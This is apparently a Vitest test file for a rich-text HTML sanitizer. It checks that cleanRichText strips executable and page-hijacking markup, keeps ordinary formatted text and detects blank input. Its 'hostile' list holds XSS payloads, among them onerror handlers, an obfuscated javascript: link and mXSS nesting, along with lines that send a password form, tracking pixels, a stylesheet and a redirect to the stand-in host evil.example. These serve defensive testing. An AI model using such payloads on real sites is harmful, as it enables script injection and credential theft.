import { expect, it } from 'vitest';
import { cleanRichText, isBlankRichText } from './cleanRichText.js';

const hostile = [
  '<img src=x onerror="window.ran=1">',
  '<script>window.ran=1</script>',
  '<svg onload="window.ran=1"><script>window.ran=1</script></svg>',
  '<a href="javascript:window.ran=1">a</a>',
  '<a href="  java&#x0A;script:window.ran=1">a</a>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table></mtext></math>',
  '<video><source onerror="window.ran=1"></video>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/a.png)">x</p>',
  '<img src="https://evil.example/pixel.png"><img src="//evil.example/pixel.png"><img src="data:image/svg+xml,<svg/>">',
  '<img alt="&quot; onerror=&quot;window.ran=1" src="/a.png">',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/a.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
];

it('leaves nothing that runs, covers the page or asks a foreign host for something', () => {
  const holder = document.createElement('div');
  document.body.append(holder);
  for (const html of hostile) {
    holder.innerHTML = cleanRichText(html);
    expect(holder.querySelector('script, iframe, svg, math, style, form, input, video, link, meta'), html).toBeNull();
    for (const element of holder.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name, html).not.toMatch(/^on/);
        expect(value, html).not.toMatch(/evil\.example|javascript:|position/i);
      }
    }
  }
  holder.remove();
  expect(Reflect.get(window, 'ran')).toBeUndefined();
});

it('keeps what people write', () => {
  const kept =
    '<h2>标题</h2><p style="text-align: center;"><strong>粗</strong><a href="https://example.com" rel="noopener noreferrer" target="_blank">链接</a></p><img src="/aiapi/qa/upload/signed/a?expires=1" alt="图">';
  const holder = document.createElement('div');
  holder.innerHTML = cleanRichText(kept);
  expect(holder.querySelector('h2')?.textContent).toBe('标题');
  expect(holder.querySelector('p')?.style.textAlign).toBe('center');
  expect(holder.querySelector('a')?.rel).toBe('noopener noreferrer');
  expect(holder.querySelector('img')?.getAttribute('src')).toBe('/aiapi/qa/upload/signed/a?expires=1');
});

it('knows blank from written', () => {
  expect(isBlankRichText('<p><br></p><p> </p>')).toBe(true);
  expect(isBlankRichText('<p>字</p>')).toBe(false);
  expect(isBlankRichText('<p><img src="/a.png"></p>')).toBe(false);
});
